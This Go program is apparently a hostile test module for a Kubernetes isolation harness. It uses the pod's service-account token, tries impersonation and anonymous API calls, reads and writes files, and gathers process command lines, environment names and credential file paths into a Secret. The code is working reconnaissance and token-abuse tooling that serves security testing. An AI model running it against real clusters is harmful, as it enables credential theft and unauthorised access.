// The program of a hostile module: it runs in the pod of a run, makes the attempts that a file lists, and stores their results in a
// Secret of its namespace. It has what the code of each module has: the user, the files and the token of the pod.
//
//	attack <attempts.json>
package main

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

const (
	// account is the directory where the kubelet mounts the token of the pod.
	account = "/var/run/secrets/kubernetes.io/serviceaccount"
	// secretName is the name of the Secret with the report.
	secretName = "attack-report"
	// maxText is the number of bytes of an answer or a file that the report contains.
	maxText = 8192
	timeout = 20 * time.Second
)

// attempt is one thing to try. `$NAME` in URL and Body stands for a variable of the environment.
type attempt struct {
	// Name is its key in the report.
	Name string `json:"name"`
	// Method and URL of a request. A path without a host is one of the API server.
	Method string `json:"method"`
	URL    string `json:"url"`
	// Body is the JSON of the request, if there is one.
	Body json.RawMessage `json:"body"`
	// As is the user to impersonate.
	As string `json:"as"`
	// Anonymous omits the token.
	Anonymous bool `json:"anonymous"`
	// Read and Write are the paths of a file.
	Read  string `json:"read"`
	Write string `json:"write"`
}

// report is what the attempts gave, and what the program finds in its pod.
type report struct {
	// Results are `<HTTP status> <body>`, `done <content>` or `failed <error>`.
	Results map[string]string `json:"results"`
	// Environment contains the names of the variables.
	Environment []string `json:"environment"`
	// Processes are the command lines of all visible processes.
	Processes []string `json:"processes"`
	// Credentials are the paths of files with a name that credentials have.
	Credentials []string `json:"credentials"`
	// Claims is the payload of the token.
	Claims json.RawMessage `json:"claims"`
}

func main() {
	if err := run(os.Args[1]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(path string) error {
	text, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var attempts []attempt
	if err := json.Unmarshal(text, &attempts); err != nil {
		return err
	}
	attacker, err := newAttacker()
	if err != nil {
		return err
	}
	found := report{Results: map[string]string{}, Environment: variables(), Credentials: credentials()}
	if found.Processes, err = processes(); err != nil {
		return err
	}
	if found.Claims, err = attacker.claims(); err != nil {
		return err
	}
	for _, attempt := range attempts {
		result, err := attacker.make(attempt)
		if err != nil {
			return fmt.Errorf("%s: %w", attempt.Name, err)
		}
		found.Results[attempt.Name] = result
		fmt.Printf("%s: %.60s\n", attempt.Name, result)
	}
	return attacker.store(found)
}

// attacker sends requests with the token of the pod.
type attacker struct {
	client http.Client
	token  string
	api    string
}

func newAttacker() (*attacker, error) {
	token, err := os.ReadFile(filepath.Join(account, "token"))
	if err != nil {
		return nil, err
	}
	authority, err := os.ReadFile(filepath.Join(account, "ca.crt"))
	if err != nil {
		return nil, err
	}
	authorities := x509.NewCertPool()
	if !authorities.AppendCertsFromPEM(authority) {
		return nil, errors.New("ca.crt contains no certificate")
	}
	transport := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: authorities}}
	host := net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
	return &attacker{
		client: http.Client{Timeout: timeout, Transport: transport},
		token:  strings.TrimSpace(string(token)),
		api:    "https://" + host,
	}, nil
}

// make makes an attempt. Its failure is a result; an error is one of the test.
func (a *attacker) make(attempt attempt) (string, error) {
	switch {
	case attempt.Read != "":
		content, err := os.ReadFile(attempt.Read)
		return outcome(content, err), nil
	case attempt.Write != "":
		return outcome(nil, os.WriteFile(attempt.Write, []byte("planted"), 0o600)), nil
	default:
		return a.send(attempt)
	}
}

func outcome(content []byte, err error) string {
	if err != nil {
		return "failed " + err.Error()
	}
	return "done " + shortened(content)
}

func shortened(text []byte) string {
	return string(text[:min(len(text), maxText)])
}

func (a *attacker) send(attempt attempt) (string, error) {
	url, err := expand(attempt.URL)
	if err != nil {
		return "", err
	}
	if strings.HasPrefix(url, "/") {
		url = a.api + url
	}
	body, err := expand(string(attempt.Body))
	if err != nil {
		return "", err
	}
	request, err := http.NewRequest(attempt.Method, url, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	if attempt.Method == http.MethodPatch {
		request.Header.Set("Content-Type", "application/merge-patch+json")
	} else if body != "" {
		request.Header.Set("Content-Type", "application/json")
	}
	if !attempt.Anonymous {
		request.Header.Set("Authorization", "Bearer "+a.token)
	}
	if attempt.As != "" {
		request.Header.Set("Impersonate-User", attempt.As)
	}
	answer, err := a.client.Do(request)
	if err != nil {
		return "failed " + err.Error(), nil
	}
	defer answer.Body.Close()
	content, err := io.ReadAll(io.LimitReader(answer.Body, maxText))
	if err != nil {
		return "failed " + err.Error(), nil
	}
	return fmt.Sprintf("%d %s", answer.StatusCode, content), nil
}

// expand replaces variables. One that is not set is a mistake of the test.
func expand(text string) (string, error) {
	var missing error
	expanded := os.Expand(text, func(name string) string {
		value, isSet := os.LookupEnv(name)
		if !isSet {
			missing = fmt.Errorf("the variable %s is not set", name)
		}
		return value
	})
	return expanded, missing
}

// claims returns the payload of the token.
func (a *attacker) claims() (json.RawMessage, error) {
	parts := strings.Split(a.token, ".")
	if len(parts) != 3 {
		return nil, errors.New("the token is not a JWT")
	}
	return base64.RawURLEncoding.DecodeString(parts[1])
}

// store creates the Secret with the report: it proves that the token is accepted.
func (a *attacker) store(found report) error {
	text, err := json.Marshal(found)
	if err != nil {
		return err
	}
	secret, err := json.Marshal(map[string]any{
		"apiVersion": "v1", "kind": "Secret", "metadata": map[string]string{"name": secretName},
		"stringData": map[string]string{"report": string(text)},
	})
	if err != nil {
		return err
	}
	request, err := http.NewRequest(http.MethodPost, a.api+"/api/v1/namespaces/"+os.Getenv("POD_NAMESPACE")+"/secrets", bytes.NewReader(secret))
	if err != nil {
		return err
	}
	request.Header.Set("Content-Type", "application/json")
	request.Header.Set("Authorization", "Bearer "+a.token)
	answer, err := a.client.Do(request)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusCreated {
		content, _ := io.ReadAll(io.LimitReader(answer.Body, maxText))
		return fmt.Errorf("cannot store the report: %s %s", answer.Status, content)
	}
	return nil
}

// variables returns the names of the variables of this process, and of the first process of the pod if it may be read.
func variables() []string {
	all := os.Environ()
	if first, err := os.ReadFile("/proc/1/environ"); err == nil {
		all = append(all, strings.Split(strings.TrimRight(string(first), "\x00"), "\x00")...)
	}
	names := []string{}
	for _, variable := range all {
		name, _, _ := strings.Cut(variable, "=")
		names = append(names, name)
	}
	return names
}

// processes returns the command lines of all visible processes.
func processes() ([]string, error) {
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		return nil, err
	}
	all := []string{}
	for _, file := range files {
		// It may have ended. A dead one has no command line.
		line, err := os.ReadFile(file)
		if err == nil && len(line) > 0 {
			all = append(all, strings.ReplaceAll(strings.TrimRight(string(line), "\x00"), "\x00", " "))
		}
	}
	return all, nil
}

// credentials returns the paths of files with names of tokens, keys and kubeconfigs.
func credentials() []string {
	found := []string{}
	visit := func(path string, entry fs.DirEntry, err error) error {
		if err != nil {
			return fs.SkipDir
		}
		if entry.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev") {
			return fs.SkipDir
		}
		name := entry.Name()
		if name == "token" || strings.HasSuffix(name, "kubeconfig") || strings.HasSuffix(name, ".key") {
			found = append(found, path)
		}
		return nil
	}
	// The visit returns no other error.
	_ = filepath.WalkDir("/", visit)
	return found
}
